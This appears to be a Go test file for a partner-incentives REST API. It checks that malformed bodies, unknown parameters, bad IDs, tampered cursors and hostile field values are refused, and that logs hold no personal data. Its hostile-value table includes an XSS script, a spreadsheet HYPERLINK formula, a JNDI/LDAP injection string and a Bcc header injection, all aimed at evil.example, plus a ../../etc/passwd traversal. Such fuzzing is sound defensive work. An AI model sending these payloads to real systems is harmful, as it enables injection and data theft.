@@ -1,0 +1,508 @@
+package rest_test
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"maps"
+	"net/http"
+	"net/url"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+
+	"mci.example/customers/scripts/local/localtest"
+	"mci.example/customers/scripts/local/localtest/story"
+	"mci.example/customers/shared/mci"
+	"mci.example/customers/shared/platform"
+	"mci.example/customers/shared/rest"
+	"mci.example/customers/shared/rest/openapi/openapitest"
+)
+
+// marker is in every hostile text, and shall be in no log.
+const marker = "Wanda Private"
+
+// hostile are the values that every field of every body is given.
+var hostile = map[string]any{
+	"null": nil, "true": true, "zero": 0, "a negative number": -1, "a fraction": 1.5, "a large number": json.Number("9007199254740993"),
+	"a larger number": json.Number("123456789012345678901234567890"), "an exponent": json.Number("1e300"), "no text": "", "a space": " ",
+	"a text": "text", "an empty list": []any{}, "a list": []any{"text"}, "a list in a list": []any{[]any{}}, "an empty object": story.Object{},
+	"an object":   story.Object{"unknown": "text"},
+	"a long text": marker + strings.Repeat("x", 3000), "a control character": marker + "\x00", "an escape": marker + "\x1b[31m",
+	"a bidi override": marker + "\u202egpj.exe", "a line end": marker + "\r\nBcc: eve@evil.example", "a separator of lines": marker + "\u2028",
+	"no character": marker + "\ufffd", "a byte order mark": "\ufeff" + marker, "a script": "<script>alert('" + marker + "')</script>",
+	"a formula": "=HYPERLINK(\"http://evil.example\";\"" + marker + "\")", "a template": "{{.}}${jndi:ldap://evil.example}%s%n",
+	"a key of the table": "PARTNER#%23\x01\U0010ffff", "a number as text": "40", "a percent": "100%", "right to left": "شركة كونتوسو",
+	"a combined letter": "e\u0301", "an emoji": "👩‍💻", "a GUID in braces": "{3f2504e0-4f89-41d3-9a0c-0305e82c3301}", "a date that is none": "2026-02-30",
+	"an amount with a sign": "-1.00", "an amount with three places": "1.000", "the largest deal": "1000000000000.00", "more than that": "1000000000000.01",
+	"an exponent as text": "1e3", "two at signs": "a@b@contoso.com", "an address without a domain": "ana@", "an address with a name": "Ana <ana@contoso.com>",
+}
+
+// references are the fields whose values only the table can judge: that they are refused is no word of the description.
+var references = []string{"/locationId", "/engagementIds/", "/completedOn", "/opportunityId"}
+
+// TestEveryFieldIsJudgedAsDescribed gives every field of every body every hostile value, takes it away, and adds an unknown
+// one beside it. What the description refuses is refused with exactly the pointers that it gives, and nothing is done; what
+// it takes is not refused as invalid.
+func TestEveryFieldIsJudgedAsDescribed(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	operations, err := openapitest.Operations()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, operation := range operations {
+		if operation.BodySchema == "" {
+			continue
+		}
+		t.Run(operation.ID, func(t *testing.T) {
+			t.Parallel()
+			c, token := calls[operation.Method+" "+operation.Path](t, w), w.token(t, operation)
+			body := plain(t, c.body.(story.Object))
+			schema, err := openapitest.Schema(operation.BodySchema)
+			if err != nil {
+				t.Fatal(err)
+			}
+			hasEveryField(t, "", schema, body)
+			if mistakes, err := operation.Mistakes(body); err != nil || len(mistakes) > 0 {
+				t.Fatalf("the description refuses a body that succeeds: %q, %v", mistakes, err)
+			}
+			var harmless []change
+			for _, each := range changes(body) {
+				mistakes, err := operation.Mistakes(withoutNulls(each.body))
+				if err != nil {
+					t.Fatal(err)
+				}
+				if len(mistakes) == 0 {
+					harmless = append(harmless, each)
+					continue
+				}
+				answer := localtest.Call(t, operation.Method, c.path, token, each.body)
+				changedNothing(t, each.what, answer)
+				if answer.Status != 422 {
+					t.Errorf("%s: %d, for which the description sees mistakes at %q", each.what, answer.Status, mistakes)
+					continue
+				}
+				got := pointersOf(t, answer, mistakes)
+				if !slices.Equal(got, mistakes) {
+					t.Errorf("%s: mistakes at %q, and by the description at %q: %s", each.what, got, mistakes, answer.Body)
+				}
+			}
+			for _, each := range harmless {
+				answer := localtest.Call(t, operation.Method, c.path, token, each.body)
+				switch {
+				case answer.Status == 400, answer.Status == 413, answer.Status == 415, answer.Status >= 500:
+					t.Errorf("%s: %d: %s", each.what, answer.Status, answer.Body)
+				case answer.Status == 422 && bytes.Contains(answer.Body, []byte("urn:mci:problem:invalid")):
+					if got := pointersOf(t, answer, nil); len(got) > 0 {
+						t.Errorf("%s: mistakes at %q, and none by the description: %s", each.what, got, answer.Body)
+					}
+				}
+			}
+		})
+	}
+}
+
+// pointersOf gives where an answer sees mistakes, but for references that were expected to be all right.
+func pointersOf(t *testing.T, answer localtest.Response, expected []string) []string {
+	t.Helper()
+	problem := story.Refused(t, answer, 422, mci.Invalid)
+	var pointers []string
+	for _, mistake := range problem.Errors {
+		isReference := slices.ContainsFunc(references, func(r string) bool { return strings.HasPrefix(mistake.Pointer, r) })
+		if !isReference || slices.Contains(expected, mistake.Pointer) {
+			pointers = append(pointers, mistake.Pointer)
+		}
+	}
+	slices.Sort(pointers)
+	return slices.Compact(pointers)
+}
+
+// token is one of a caller who may make the operation's call.
+func (w world) token(t *testing.T, operation openapitest.Operation) string {
+	t.Helper()
+	return localtest.Token(t, w.partner.ID, w.partner.User, mci.Role(operation.Roles[0][0]))
+}
+
+// hasEveryField checks that a body has all that its schema knows, so that nothing is left out of what is tried.
+func hasEveryField(t *testing.T, at string, schema map[string]any, value any) {
+	t.Helper()
+	body, isObject := value.(story.Object)
+	if !isObject {
+		return
+	}
+	properties, _ := schema["properties"].(map[string]any)
+	for name, property := range properties {
+		described, err := openapitest.Resolve(property)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if body[name] == nil {
+			t.Errorf("the call lacks %s/%s, which the description knows: give the table of calls a value for it", at, name)
+		}
+		hasEveryField(t, at+"/"+name, described, body[name])
+	}
+}
+
+// change is a body with one thing made different.
+type change struct {
+	what string
+	body story.Object
+}
+
+// changes gives a body changed in every way at every place.
+func changes(body story.Object) []change {
+	var all []change
+	var walk func(at string, value any, put func(any) story.Object, take func() story.Object)
+	walk = func(at string, value any, put func(any) story.Object, take func() story.Object) {
+		for _, name := range slices.Sorted(maps.Keys(hostile)) {
+			all = append(all, change{at + " is " + name, put(hostile[name])})
+		}
+		all = append(all, change{at + " is left out", take()})
+		switch value := value.(type) {
+		case story.Object:
+			for _, name := range slices.Sorted(maps.Keys(value)) {
+				walk(at+"/"+name, value[name], func(changed any) story.Object {
+					copied := maps.Clone(value)
+					copied[name] = changed
+					return put(copied)
+				}, func() story.Object {
+					copied := maps.Clone(value)
+					delete(copied, name)
+					return put(copied)
+				})
+			}
+			for _, name := range []string{"unknown", "", "a/b~c", "__proto__", "Type", strings.Repeat("n", 1000)} {
+				copied := maps.Clone(value)
+				copied[name] = "text"
+				all = append(all, change{fmt.Sprintf("%s has %.20q", at, name), put(copied)})
+			}
+		case []any:
+			walk(at+"/0", value[0], func(changed any) story.Object {
+				copied := slices.Clone(value)
+				copied[0] = changed
+				return put(copied)
+			}, func() story.Object { return put([]any{}) })
+			all = append(all, change{at + " has an entry twice", put(append(slices.Clone(value), value[0]))})
+			many := slices.Clone(value)
+			for i := range 10 {
+				many = append(many, "more-"+strconv.Itoa(i))
+			}
+			all = append(all, change{at + " has too many entries", put(many)})
+		}
+	}
+	for _, name := range slices.Sorted(maps.Keys(body)) {
+		walk("/"+name, body[name], func(changed any) story.Object {
+			copied := maps.Clone(body)
+			copied[name] = changed
+			return copied
+		}, func() story.Object {
+			copied := maps.Clone(body)
+			delete(copied, name)
+			return copied
+		})
+	}
+	for _, name := range []string{"unknown", "", "a/b~c"} {
+		copied := maps.Clone(body)
+		copied[name] = "text"
+		all = append(all, change{fmt.Sprintf("the body has %q", name), copied})
+	}
+	all = append(all, change{"the body has no field", story.Object{}})
+	return all
+}
+
+// withoutNulls takes fields away that are null, which is as good as left out.
+func withoutNulls(body story.Object) story.Object {
+	copied := story.Object{}
+	for name, value := range body {
+		if inner, isObject := value.(story.Object); isObject {
+			value = withoutNulls(inner)
+		}
+		if value != nil {
+			copied[name] = value
+		}
+	}
+	return copied
+}
+
+// TestBodiesThatCannotBeReadAreRefused sends every POST route what is no JSON object of at most 64 KiB.
+func TestBodiesThatCannotBeReadAreRefused(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	nested := func(opening, closing string, depth int) string {
+		return `{"unknown":` + strings.Repeat(opening, depth) + "1" + strings.Repeat(closing, depth) + "}"
+	}
+	malformed := map[string]string{
+		"an open brace": "{", "a closing brace": "}", "a wrong bracket": "{]", "no name": `{:1}`, "no value": `{"a":}`, "no colon": `{"a" 1}`,
+		"a comma too many": `{"a":1,}`, "single quotes": `{'a':1}`, "no quotes": `{a:1}`, "a comment": `{/* */}`, "not a number": `{"hours":NaN}`,
+		"a leading zero": `{"hours":040}`, "an open text": `{"a":"`, "a bad escape": `{"a":"\x"}`, "a line end in a text": "{\"a\":\"\n\"}",
+		"a list": `[]`, "a text": `"text"`, "a number": `1`, "null": `null`, "a blank": ` `, "two objects": `{}{}`, "something behind the end": `{} x`,
+		"a byte order mark": "\ufeff{}", "a name twice": `{"hours":1,"hours":1}`, "a name twice, deep": `{"a":{"b":{"c":1,"c":2}}}`,
+		"a name twice, escaped": `{"a":1,"\u0061":2}`, "deep lists": nested("[", "]", 17), "very deep lists": nested("[", "]", 30000),
+		"deep objects": nested(`{"a":`, "}", 17), "very deep objects": nested(`{"a":`, "}", 9000), "form": "decision=accept",
+	}
+	types := map[string]struct {
+		header string
+		want   int
+	}{
+		"text": {"text/plain", 415}, "a form": {"application/x-www-form-urlencoded", 415}, "parts": {"multipart/form-data; boundary=x", 415},
+		"a problem": {"application/problem+json", 415}, "a patch": {"application/merge-patch+json", 415}, "another charset": {"application/json; charset=latin1", 415},
+		"no type": {"", 415}, "nonsense": {";;;", 415}, "a list of types": {"application/json, text/plain", 415},
+		"UTF-8": {"application/json; charset=UTF-8", 0}, "UTF-8 in quotes": {`application/json;charset="utf-8"`, 0}, "capitals": {"Application/JSON", 0},
+	}
+	numbers := []string{"1e999999999", "-1e999999999", "1e-999999999", "99999999999999999999", "-0", "1.0000000000000000000000000001", strings.Repeat("9", 60000)}
+
+	for _, route := range rest.Routes {
+		if route.Method != http.MethodPost || route.Public() {
+			continue
+		}
+		t.Run(route.Key(), func(t *testing.T) {
+			t.Parallel()
+			c := calls[route.Key()](t, w)
+			token := localtest.Token(t, w.partner.ID, w.partner.User, route.Roles[0])
+			send := func(body string, headers ...string) localtest.Response {
+				return localtest.Call(t, "POST", c.path, token, body, headers...)
+			}
+			for name, body := range malformed {
+				answer := send(body)
+				changedNothing(t, name, answer)
+				if answer.Status != 400 {
+					t.Errorf("%s: %d: %.300s", name, answer.Status, answer.Body)
+					continue
+				}
+				story.Refused(t, answer, 400, mci.Malformed)
+			}
+			for _, bytes := range []string{"{\"\xff\":1}", "{\"a\":\"\xc3\x28\"}", "\xfe\xff{}", "{\"a\":\"\xed\xa0\x80\"}"} {
+				// The gateway may have put U+FFFD in its place: then it is an unknown field.
+				if answer := send(bytes); answer.Status != 400 && answer.Status != 422 {
+					t.Errorf("%q: %d: %s", bytes, answer.Status, answer.Body)
+				}
+			}
+			for _, number := range numbers {
+				answer := send(`{"hours":` + number + `,"dealSize":` + number + `,"completedOn":` + number + `,"reason":` + number + `,"unknown":` + number + `}`)
+				changedNothing(t, number[:min(20, len(number))], answer)
+				want := 422
+				if len(answer.Body) > 0 && 5*len(number) > rest.MaxBody {
+					want = 413
+				}
+				if answer.Status != want {
+					t.Errorf("numbers such as %.20s: %d: %.300s", number, answer.Status, answer.Body)
+				}
+			}
+			for name, kind := range types {
+				answer := send(`{"unknown":1}`, "Content-Type", kind.header)
+				changedNothing(t, name, answer)
+				want := kind.want
+				if want == 0 {
+					want = 422
+				}
+				if answer.Status != want {
+					t.Errorf("%s: %d: %s", name, answer.Status, answer.Body)
+				}
+			}
+			padding := func(n int) string { return `{"unknown":1` + strings.Repeat(" ", n-len(`{"unknown":1}`)) + "}" }
+			story.Refused(t, send(padding(rest.MaxBody)), 422, mci.Invalid)
+			story.Refused(t, send(padding(rest.MaxBody+1)), 413, mci.TooLarge)
+			story.Refused(t, send(padding(10*rest.MaxBody), "Content-Type", "application/octet-stream"), 413, mci.TooLarge)
+
+			for _, body := range []any{"", nil} { // none at all is as good as an object without fields
+				answer := localtest.Call(t, "POST", c.path, token, body)
+				if answer.Status == 400 || answer.Status == 415 || answer.Status >= 500 {
+					t.Errorf("a request without a body is answered %d: %s", answer.Status, answer.Body)
+				}
+			}
+		})
+	}
+}
+
+func TestUnknownDoubledAndEmptyParametersAreRefused(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	wrong := map[string][]string{
+		"limit":  {"0", "101", "-1", "1.5", "ten", "1e1", " 5", "5 ", "99999999999999999999", "٣", "0x10"},
+		"cursor": {"x", "AAAA", strings.Repeat("A", 200), "=", "../..", "\x00", "é"},
+		"tab":    {"Eligible", "all", "eligible,complete"}, "state": {"Active", "any", "active ended"}, "status": {"open", "Completed", "completed,expired"},
+		"type": {"cosell", "co-sell,partner-led"}, "q": {strings.Repeat("x", 121), "a\x00b", "\u202e"},
+	}
+	for _, route := range rest.Routes {
+		if !strings.HasPrefix(route.Path, "/v1/") {
+			continue
+		}
+		t.Run(route.Key(), func(t *testing.T) {
+			t.Parallel()
+			c := calls[route.Key()](t, w)
+			token := ""
+			if !route.Public() {
+				token = localtest.Token(t, w.partner.ID, w.partner.User, route.Roles...)
+			}
+			refuses := func(query string, names ...string) {
+				t.Helper()
+				answer := localtest.Call(t, route.Method, c.path+"?"+query, token, c.body)
+				changedNothing(t, query, answer)
+				if answer.Status != 422 {
+					t.Errorf("?%s is answered %d: %.300s", query, answer.Status, answer.Body)
+					return
+				}
+				problem := story.Refused(t, answer, 422, mci.Invalid)
+				for _, name := range names {
+					if !slices.Contains(strings.Split(problem.Pointers(), " "), "/"+name) {
+						t.Errorf("?%s: mistakes at %s, none at /%s", query, problem.Pointers(), name)
+					}
+				}
+			}
+			refuses("unknown=1", "unknown")
+			refuses("unknown", "unknown")
+			refuses("unknown=1&other=2", "unknown", "other")
+			refuses("%00=1")
+			refuses("Limit=1", "Limit")
+			for _, name := range route.Query {
+				refuses(name+"=", name)
+				refuses(name+"=1&"+name+"=1", name)
+				for _, value := range wrong[name] {
+					refuses(url.Values{name: {value}}.Encode(), name)
+				}
+			}
+			if len(route.Query) > 1 { // every mistake is told at once
+				refuses(strings.Join(route.Query, "=&")+"=&unknown=1", append(slices.Clone(route.Query), "unknown")...)
+			}
+		})
+	}
+}
+
+func TestAnIdempotencyKeyIs1To255VisibleCharacters(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	for _, route := range rest.Routes {
+		if route.Method != http.MethodPost || route.Public() {
+			continue
+		}
+		t.Run(route.Key(), func(t *testing.T) {
+			t.Parallel()
+			c := calls[route.Key()](t, w)
+			token := localtest.Token(t, w.partner.ID, w.partner.User, route.Roles[0])
+			for _, key := range []string{"", strings.Repeat("k", 256), "a key", "a\tkey", "schlüssel"} {
+				answer := localtest.Call(t, "POST", c.path, token, c.body, "Idempotency-Key", key)
+				changedNothing(t, key, answer)
+				if problem := story.Refused(t, answer, 422, mci.Invalid); problem.Pointers() != "/Idempotency-Key" {
+					t.Errorf("%q: mistakes at %s", key, problem.Pointers())
+				}
+			}
+			localtest.Call(t, "POST", c.path, token, c.body, "Idempotency-Key", strings.Repeat("~", 255)).Expect(t, c.want)
+		})
+	}
+}
+
+// TestAPathThatLeadsNowhereIsNotFound tries what no partner, customer, claim or link is called.
+func TestAPathThatLeadsNowhereIsNotFound(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	ids := []string{
+		"x", " ", ".", "..", "%", "#", "?", "\x00", "a\x00b", "\x01", "\u202e", "\U0010ffff", "é", "👩‍💻", "a b", "a/b", "../../etc/passwd", "ENGAGEMENTS",
+		"CLAIM#1", "%2F", "null", "-1", "'", `"`, "<script>", "{claimId}", strings.Repeat("x", 1024), strings.Repeat("é", 1024), strings.Repeat("%", 2000),
+		"01AN4Z07BY79KA1307SR9X4MV3", "01AN4Z07BY79KA1307SR9X4MV3-", "01AN4Z07BY79KA1307SR9X4MV3-zz", "R", "R-", strings.Repeat("A", 43) + ".x",
+		strings.Repeat("A", 43) + ".01AN4Z07BY79KA1307SR9X4MV3-" + strings.Repeat("c", 200),
+	}
+	for _, route := range rest.Routes {
+		at := strings.IndexByte(route.Path, '{')
+		if at < 0 {
+			continue
+		}
+		t.Run(route.Key(), func(t *testing.T) {
+			t.Parallel()
+			c := calls[route.Key()](t, w)
+			token := ""
+			if !route.Public() {
+				token = localtest.Token(t, w.partner.ID, w.partner.User, route.Roles...)
+			}
+			end := strings.IndexByte(route.Path, '}')
+			for _, id := range ids {
+				path := route.Path[:at] + url.PathEscape(id) + route.Path[end+1:]
+				answer := localtest.Call(t, route.Method, path, token, c.body)
+				changedNothing(t, id, answer)
+				if answer.Status != 404 {
+					t.Errorf("%.60q is answered %d: %.300s", id, answer.Status, answer.Body)
+				}
+			}
+		})
+	}
+	program := story.Program(t)
+	for _, id := range ids {
+		answer := localtest.Call(t, "GET", "/v1/claims?"+url.Values{"partnerId": {id}}.Encode(), program, nil)
+		if answer.Status != 200 && answer.Status != 422 {
+			t.Errorf("the claims of partner %.60q: %d: %.300s", id, answer.Status, answer.Body)
+		}
+		answer = localtest.Call(t, "GET", "/v1/claims?"+url.Values{"engagementId": {id}}.Encode(), w.partner.Token, nil)
+		if answer.Status != 200 && answer.Status != 422 {
+			t.Errorf("the claims on engagement %.60q: %d: %.300s", id, answer.Status, answer.Body)
+		}
+	}
+}
+
+// TestACursorServesItsCallerAndQueryAlone tries a good cursor wherever it does not belong.
+func TestACursorServesItsCallerAndQueryAlone(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t)
+	for range 2 {
+		w.claim(t, mci.ConsentPending)
+	}
+	second := story.Engagement(t, nil)
+	roles := []mci.Role{mci.IncentivesUser, mci.ReferralAdmin}
+	token := localtest.Token(t, w.partner.ID, w.partner.User, roles...)
+	page := "/v1/engagements/" + w.engagement + "/customers"
+	for _, path := range []string{page + "?limit=1", page + "?limit=1&tab=eligible", page + "?limit=1&q=cust", "/v1/claims?limit=1", "/v1/claims?limit=1&engagementId=" + w.engagement, "/v1/referrals?limit=1"} {
+		cursor, _ := localtest.Call(t, "GET", path, token, nil).Expect(t, 200).JSON(t)["cursor"].(string)
+		if cursor == "" {
+			t.Errorf("%s gives no cursor", path)
+			continue
+		}
+		own := path + "&cursor=" + url.QueryEscape(cursor)
+		localtest.Call(t, "GET", own, token, nil).Expect(t, 200)
+		localtest.Call(t, "GET", strings.Replace(own, "limit=1", "limit=7", 1), token, nil).Expect(t, 200)
+		base, _, _ := strings.Cut(path, "?")
+		tampered := []byte(cursor)
+		tampered[len(tampered)/2] ^= 1
+		for what, refused := range map[string]struct{ path, token string }{
+			"by another user":    {own, localtest.Token(t, w.partner.ID, story.Name("user"), roles...)},
+			"by another partner": {own, localtest.Token(t, w.other.ID, w.partner.User, roles...)},
+			"in another role":    {own, localtest.Token(t, w.partner.ID, w.partner.User, append(roles, mci.FieldSeller)...)},
+			"tampered with":      {path + "&cursor=" + url.QueryEscape(string(tampered)), token},
+			"cut":                {path + "&cursor=" + url.QueryEscape(cursor[:len(cursor)-2]), token},
+			"for another list":   {map[bool]string{true: "/v1/referrals", false: "/v1/claims"}[base == "/v1/claims"] + "?cursor=" + url.QueryEscape(cursor), token},
+			"for another page":   {"/v1/engagements/" + second + "/customers?cursor=" + url.QueryEscape(cursor), token},
+			"for another query":  {own + map[bool]string{true: "&type=co-sell", false: map[bool]string{true: "&status=expired", false: "&tab=complete"}[base == "/v1/claims"]}[base == "/v1/referrals"], token},
+		} {
+			if what == "for another query" && strings.Contains(path, "tab=") {
+				continue
+			}
+			if problem := story.Refused(t, localtest.Call(t, "GET", refused.path, refused.token, nil), 422, mci.Invalid); problem.Pointers() != "/cursor" {
+				t.Errorf("a cursor of %s used %s: mistakes at %s", path, what, problem.Pointers())
+			}
+		}
+	}
+}
+
+// TestLogsNameNobody runs after the tests beside it in this file have sent what they have: it is about all that was logged.
+func TestLogsNameNobody(t *testing.T) {
+	w := newWorld(t)
+	for _, route := range rest.Routes {
+		c := calls[route.Key()](t, w)
+		token := ""
+		if !route.Public() {
+			token = localtest.Token(t, w.partner.ID, w.partner.User, route.Roles...)
+		}
+		localtest.Call(t, route.Method, c.path, token, c.body).Expect(t, c.want)
+		if fields, isObject := c.body.(story.Object); isObject {
+			fields[marker] = marker
+			localtest.Call(t, route.Method, c.path, token, fields).Expect(t, 422)
+		}
+	}
+	for _, function := range platform.Functions {
+		log := localtest.Logs(t, function.Name)
+		for _, secret := range []string{marker, "Kim Contact", "Pat Partner", "contact@", "pat@partner.example", "555 0100", "Customer-", "The claim of", "A reason.", "Notes."} {
+			if at := strings.Index(log, secret); at >= 0 {
+				t.Errorf("%s logs %q: …%s…", function.Name, secret, log[max(0, at-200):min(len(log), at+100)])
+			}
+		}
+	}
+}
